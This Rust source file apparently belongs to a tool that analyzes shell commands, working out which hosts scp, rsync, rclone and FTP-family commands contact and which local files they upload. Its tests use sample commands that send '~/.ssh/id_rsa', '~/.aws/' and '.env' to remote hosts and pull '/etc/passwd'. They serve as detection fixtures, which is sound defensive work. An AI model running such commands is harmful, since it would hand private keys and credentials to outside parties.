//! File transfer: `scp`, `rsync`, `rclone` and the FTP family (`sftp`, `ftp`, `lftp`,
//! `tftp`): local operands copied to a remote one are uploads, remote to local are writes.

use super::super::facts::{Analyzer, CommandContext, NetUse};
use super::super::host::{clean_host, remote_host, url_host};
use super::super::options::{parse_opts, Arg};
use crate::flow::shell::options::valued_long::{RCLONE_LONG, RSYNC_LONG};

impl Analyzer {
    /// `scp [-J jump] SRC... DST`.
    pub(super) fn scp(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(args, "cFiJloPSDX", &[], false);
        let jumps = p.vals(&["-J"]);
        self.copy_tool("scp", &p.operands, &jumps, ctx);
    }

    /// `rsync [options] SRC... DST` (file lists it reads included).
    pub(super) fn rsync(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(args, "efBMT", RSYNC_LONG, false);
        for v in p.vals(&["--files-from", "--exclude-from", "--include-from", "--password-file"]) {
            self.read_arg(&v, ctx);
        }
        self.copy_tool("rsync", &p.operands, &[], ctx);
    }

    /// `rclone copy|sync|move.. SRC... DST`.
    pub(super) fn rclone(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(args, "", RCLONE_LONG, false);
        if p.operands
            .first()
            .is_some_and(|a| matches!(a.text.as_str(), "copy" | "sync" | "move" | "copyto" | "moveto" | "bisync"))
        {
            let pos = &p.operands[1..];
            let mut nu = NetUse { tool: "rclone".into(), ..Default::default() };
            if let Some((dst, srcs)) = pos.split_last() {
                if remote_host(&dst.text).is_some() {
                    for s in srcs {
                        if remote_host(&s.text).is_none() {
                            nu.add_upload(&s.text);
                        }
                    }
                }
            }
            self.push_net(ctx, nu, false);
        }
    }

    /// Hosts of the remotes; local sources sent to a remote destination are uploads, a local
    /// destination fed from a remote is written.
    fn copy_tool(&mut self, tool: &str, pos: &[Arg], jumps: &[Arg], ctx: &mut CommandContext) {
        let mut nu = NetUse { tool: tool.into(), ..Default::default() };
        for j in jumps {
            for x in j.host.split(',') {
                nu.hosts.extend(clean_host(x));
            }
        }
        for a in pos {
            nu.hosts.extend(remote_host(&a.host));
        }
        if let Some((dst, srcs)) = pos.split_last() {
            if remote_host(&dst.host).is_some() {
                for s in srcs {
                    if remote_host(&s.host).is_none() {
                        nu.add_upload(&s.text);
                    }
                }
            } else if srcs.iter().any(|s| remote_host(&s.host).is_some()) {
                self.write_arg(dst, ctx);
            }
        }
        self.push_net(ctx, nu, false);
    }

    pub(super) fn ftp(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(args, if name == "sftp" { "BbcDFiJlOoPRSs" } else { "PpuecoT" }, &[], false);
        let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
        if name == "sftp" {
            for v in p.vals(&["-b"]) {
                if v.text == "-" {
                    nu.reads_stdin = true;
                } else {
                    self.read_arg(&v, ctx);
                }
            }
        }
        if let Some(a) = p.operands.first() {
            let h = if a.host.contains("://") {
                url_host(&a.host)
            } else {
                remote_host(&a.host).or_else(|| clean_host(&a.host))
            };
            nu.hosts.extend(h);
        }
        // `put`/`mput` commands fed on stdin (heredoc/here-string) or via -e/-c (lftp)
        let mut scripts: Vec<String> = p.vals(&["-e", "-c"]).into_iter().map(|a| a.text).collect();
        // `tftp HOST -c put FILE`: the command is the rest of the line.
        if name == "tftp" {
            if let Some(at) = args.iter().position(|a| a.text == "-c") {
                scripts = vec![args[at + 1..].iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ")];
            }
        }
        if let Some(t) = ctx.stdin_text() {
            scripts.push(t);
        }
        for s in scripts {
            for line in s.split(['\n', ';']) {
                let mut it = line.split_whitespace();
                if let Some(cmd) = it.next() {
                    if matches!(cmd, "put" | "mput" | "reput" | "append") {
                        for f in it.filter(|x| !x.starts_with('-')).take(if cmd == "mput" { usize::MAX } else { 1 }) {
                            nu.add_upload(f);
                        }
                    }
                }
            }
        }
        self.push_net(ctx, nu, false);
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::shell::analyze;
    use crate::flow::shell::test_util::{s, uploads};

    #[test]
    fn scp_rsync() {
        assert_eq!(
            uploads("scp ~/.ssh/id_rsa user@203.0.113.9:/tmp/", &["203.0.113.9"], &["~/.ssh/id_rsa"]).tool,
            "scp"
        );
        uploads("rsync -a ~/.aws/ backup@host.example:aws/", &["host.example"], &["~/.aws/"]);
        let f = analyze("scp -P 2222 u@[2001:db8::1]:/etc/passwd ./p");
        assert_eq!(f.net[0].hosts, s(&["2001:db8::1"]));
        assert!(f.net[0].upload_paths.is_empty());
        assert_eq!(f.written_paths, s(&["./p"]));
        uploads(
            "rsync -avz -e 'ssh -p 22' --exclude .git ./ rsync://mirror.example/mod/",
            &["mirror.example"],
            &["./"],
        );
    }

    #[test]
    fn sftp_heredoc_put_is_an_upload() {
        uploads("sftp user@h.example <<EOF\nput .env\nEOF", &["h.example"], &[".env"]);
    }
}
